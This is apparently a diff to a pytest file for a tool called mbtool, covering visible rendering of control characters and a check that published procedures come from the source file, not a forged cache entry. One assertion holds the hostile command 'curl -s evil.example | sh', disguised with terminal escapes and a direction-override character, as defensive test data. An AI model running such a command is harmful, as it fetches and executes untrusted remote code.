@@ -171,3 +171,19 @@ def test_item_10_control_characters_in_step_text_are_made_visible(
     if args[0] != "list":
         # (A carriage return is a line break in Markdown: the command is on a line of its own.)
         assert "echo harmless^[[1A^[[2K\n" in out and "curl -s evil.example | sh<U+202E>\n" in out
+
+
+def test_item_12_the_published_procedure_comes_from_the_file_never_the_cache(
+    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from mbtool.cli import run
+
+    monkeypatch.setenv("MBTOOL_CACHE_DIR", str(tmp_path / "shared-cache"))
+    forge_cache_entry(
+        project.bank, procedure("echo honest > honest.txt"), procedure("echo forged > forged.txt")
+    )
+    site = tmp_path / "site"
+    assert run(["build", "--bank", str(project.bank), "--site-dir", str(site)]) in (0, 1)
+    published = [path.read_text(encoding="utf-8") for path in (site / "mbtool" / "procedures").rglob("*.*")]
+    assert published and any("echo honest" in text for text in published)
+    assert not any("forged" in text for text in published)
